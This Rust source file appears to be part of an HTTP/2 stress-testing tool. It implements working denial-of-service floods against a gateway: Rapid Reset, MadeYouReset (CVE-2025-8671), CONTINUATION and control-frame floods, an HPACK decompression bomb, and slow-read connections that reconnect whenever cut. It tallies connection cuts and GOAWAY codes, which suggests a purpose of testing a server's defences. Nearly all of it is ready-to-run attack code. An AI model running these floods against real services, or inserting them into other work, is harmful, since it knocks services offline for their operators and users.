//! Floods of HTTP/2: as fast as the gateway takes them, on a connection again whenever one is cut.

use crate::frames::{self, Came, END_STREAM, frame};
use crate::options::Options;
use crate::{now, spawn};
use anyhow::{Context, Result, bail};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpSocket;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::Mutex;

/// A flood.
struct Flood {
    name: &'static str,
    settings: &'static [(u16, u32)],
    /// What is sent next; the number counts from 0 on each connection, and streams are made of it.
    next: fn(u32) -> Vec<u8>,
    /// Between two sendings.
    pause: Duration,
    reading: Reading,
    /// How many sendings a connection takes; then it is held until it is cut.
    most: u32,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Reading {
    /// Everything is read and thrown away.
    All,
    Nothing,
}

const ONCE: Duration = Duration::ZERO;
/// Frames are written in such numbers at once.
const TOGETHER: u32 = 64;

const FLOODS: &[Flood] = &[
    Flood { name: "rapid reset", settings: &[], next: rapid_reset, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood {
        name: "rapid reset of requests under way",
        settings: &[],
        next: late_reset,
        pause: Duration::from_millis(20),
        reading: Reading::All,
        most: u32::MAX,
    },
    Flood {
        name: "MadeYouReset",
        settings: &[],
        next: made_you_reset,
        pause: Duration::from_millis(20),
        reading: Reading::All,
        most: u32::MAX,
    },
    Flood {
        name: "CONTINUATION",
        settings: &[],
        next: continuation,
        pause: ONCE,
        reading: Reading::All,
        most: u32::MAX,
    },
    Flood {
        name: "empty CONTINUATION",
        settings: &[],
        next: empty_continuation,
        pause: ONCE,
        reading: Reading::All,
        most: u32::MAX,
    },
    Flood { name: "SETTINGS", settings: &[], next: settings, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood { name: "PING", settings: &[], next: ping, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood {
        name: "PING, answers unread",
        settings: &[],
        next: ping,
        pause: ONCE,
        reading: Reading::Nothing,
        most: u32::MAX,
    },
    Flood { name: "PRIORITY", settings: &[], next: priority, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood { name: "WINDOW_UPDATE", settings: &[], next: window, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood { name: "empty DATA", settings: &[], next: empty_data, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood {
        name: "DATA of one byte",
        settings: &[],
        next: small_data,
        pause: ONCE,
        reading: Reading::All,
        most: u32::MAX,
    },
    Flood { name: "HPACK bomb", settings: &[], next: bomb, pause: ONCE, reading: Reading::All, most: u32::MAX },
    Flood {
        name: "never reading",
        settings: &[(4, 0x7fff_ffff)],
        next: unread,
        pause: ONCE,
        reading: Reading::Nothing,
        most: 2,
    },
    Flood {
        name: "window never opened",
        settings: &[(4, 1)],
        next: unread,
        pause: ONCE,
        reading: Reading::All,
        most: 2,
    },
];

/// What became of the connections.
#[derive(Default)]
struct Tally {
    connections: u64,
    /// Cut by the other side.
    cut: u64,
    /// Error codes of GOAWAY frames, with how often.
    goodbyes: BTreeMap<u32, u64>,
    sendings: u64,
    /// When the first connection was cut.
    first_cut: Option<f64>,
}

/// Floods for a while.
pub(crate) async fn run(name: &str, address: SocketAddr, options: &Options) -> Result<Value> {
    let Some(flood) = FLOODS.iter().find(|flood| flood.name == name) else {
        bail!("there is no flood `{name}`: {:?}", FLOODS.iter().map(|flood| flood.name).collect::<Vec<_>>())
    };
    let until = now() + Duration::from_secs_f64(options.seconds);
    let tally = Arc::<Mutex<Tally>>::default();
    let workers: Vec<_> = (0..options.connections)
        .map(|_| {
            let tally = Arc::clone(&tally);
            spawn(async move {
                while now() < until {
                    one(flood, address, until, &tally).await?;
                }
                anyhow::Ok(())
            })
        })
        .collect();
    for worker in workers {
        worker.await??;
    }
    let tally = tally.lock().await;
    Ok(json!({
        "connections": tally.connections,
        "cut": tally.cut,
        "sendings": tally.sendings,
        "first_cut_s": tally.first_cut,
        "goaway": tally.goodbyes.iter().map(|(code, count)| json!([code, count])).collect::<Vec<_>>(),
    }))
}

/// One connection, until it is cut or the time is over.
async fn one(flood: &'static Flood, address: SocketAddr, until: Instant, tally: &Mutex<Tally>) -> Result<()> {
    let socket = TcpSocket::new_v4()?;
    if flood.reading == Reading::Nothing {
        socket.set_recv_buffer_size(4096)?;
    }
    let mut stream = socket.connect(address).await.context("could not connect")?;
    let begun = now();
    tally.lock().await.connections += 1;
    if stream.write_all(&frames::greeting(flood.settings)).await.is_err() {
        return Ok(());
    }
    let (read, write) = stream.into_split();
    let life = async {
        tokio::select! {
            () = reader(flood.reading, read, tally) => {}
            () = writer(flood, write, tally) => {}
        }
    };
    // When the time is over first, the connection was still there.
    let is_cut = tokio::time::timeout(until.saturating_duration_since(begun), life).await.is_ok();
    let mut tally = tally.lock().await;
    if is_cut {
        tally.cut += 1;
        tally.first_cut.get_or_insert(begun.elapsed().as_secs_f64());
    }
    Ok(())
}

/// Reads until the connection ends, or only waits for that.
async fn reader(reading: Reading, mut from: OwnedReadHalf, tally: &Mutex<Tally>) {
    match reading {
        Reading::All => {
            while let Some(Came { kind, payload }) = frames::read(&mut from).await {
                if let (frames::GOAWAY, Some([_, _, _, _, code @ ..])) = (kind, payload.first_chunk::<8>()) {
                    *tally.lock().await.goodbyes.entry(u32::from_be_bytes(*code)).or_default() += 1;
                }
            }
        }
        Reading::Nothing => {
            while let Ok(None) = from.as_ref().take_error() {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
    }
}

/// Sends until nothing more is taken; then waits.
async fn writer(flood: &Flood, mut to: OwnedWriteHalf, tally: &Mutex<Tally>) {
    let together = if flood.pause.is_zero() { TOGETHER } else { 1 };
    let mut number = 0;
    while number < flood.most {
        let count = together.min(flood.most - number);
        let bytes: Vec<u8> = (number..number + count).flat_map(flood.next).collect();
        number += count;
        if to.write_all(&bytes).await.is_err() {
            // What the other side said last is still to be read.
            tokio::time::sleep(Duration::from_millis(50)).await;
            return;
        }
        tally.lock().await.sendings += u64::from(count);
        if flood.pause.is_zero() {
            tokio::task::yield_now().await;
        } else {
            tokio::time::sleep(flood.pause).await;
        }
    }
    std::future::pending::<()>().await;
}

fn stream(number: u32) -> u32 {
    (number * 2 + 1) & 0x7fff_ffff
}

fn rapid_reset(number: u32) -> Vec<u8> {
    let stream = stream(number);
    [frames::get(stream, "/hold"), frames::reset(stream)].concat()
}

/// Streams that are opened together, and reset together when the next ones are opened.
const GROUP: u32 = 50;

fn late_reset(number: u32) -> Vec<u8> {
    let opened = (number * GROUP..(number + 1) * GROUP).map(stream);
    let before = number.saturating_sub(1) * GROUP..number * GROUP;
    before.map(stream).map(frames::reset).chain(opened.map(|stream| frames::get(stream, "/hold"))).flatten().collect()
}

/// Has the other side reset streams whose requests it passed on already (CVE-2025-8671).
fn made_you_reset(number: u32) -> Vec<u8> {
    let spoil = |stream: u32| frames::window_update(stream, 0x7fff_ffff);
    let opened = (number * GROUP..(number + 1) * GROUP).map(stream);
    let before = number.saturating_sub(1) * GROUP..number * GROUP;
    before.map(stream).map(spoil).chain(opened.map(|stream| frames::get(stream, "/hold"))).flatten().collect()
}

fn continuation(number: u32) -> Vec<u8> {
    if number == 0 {
        return frame(frames::HEADERS, END_STREAM, 1, &frames::head("GET", "/1k"));
    }
    let header = [b"\x00\x01x\x7e".as_slice(), &[b'y'; 126]].concat();
    frame(frames::CONTINUATION, 0, 1, &header.repeat(8))
}

fn empty_continuation(number: u32) -> Vec<u8> {
    if number == 0 { continuation(0) } else { frame(frames::CONTINUATION, 0, 1, &[]) }
}

fn settings(number: u32) -> Vec<u8> {
    let value = 65_535 + number % 2;
    frame(frames::SETTINGS, 0, 0, &[&[0, 4], value.to_be_bytes().as_slice()].concat())
}

fn ping(number: u32) -> Vec<u8> {
    frame(frames::PING, 0, 0, &u64::from(number).to_be_bytes())
}

fn priority(number: u32) -> Vec<u8> {
    frame(frames::PRIORITY, 0, stream(number % 100_000), &[0, 0, 0, 0, 16])
}

fn window(_: u32) -> Vec<u8> {
    frames::window_update(0, 1)
}

fn empty_data(number: u32) -> Vec<u8> {
    if number == 0 { frames::post(1, "/1k") } else { frame(frames::DATA, 0, 1, &[]) }
}

fn small_data(number: u32) -> Vec<u8> {
    if number == 0 { frames::post(1, "/1k") } else { frame(frames::DATA, 0, 1, b"x") }
}

/// One long field in the table, and a head that names it twelve thousand times: 48 MB from 12 KB.
fn bomb(number: u32) -> Vec<u8> {
    let mut block = frames::head("GET", "/1k");
    if number == 0 {
        // A name of one byte, and a value of 4,000: 127 and 3,873 in groups of seven bits.
        block.extend(b"\x40\x01x\x7f\xa1\x1e");
        block.extend([b'y'; 4000]);
    }
    block.extend([0xbe; 12_000]);
    frame(frames::HEADERS, frames::END_HEADERS | END_STREAM, stream(number), &block)
}

fn unread(number: u32) -> Vec<u8> {
    let mut bytes = if number == 0 { frames::window_update(0, 0x7fff_0000) } else { Vec::new() };
    bytes.extend((number * 64..(number + 1) * 64).flat_map(|number| frames::get(stream(number), "/big")));
    bytes
}
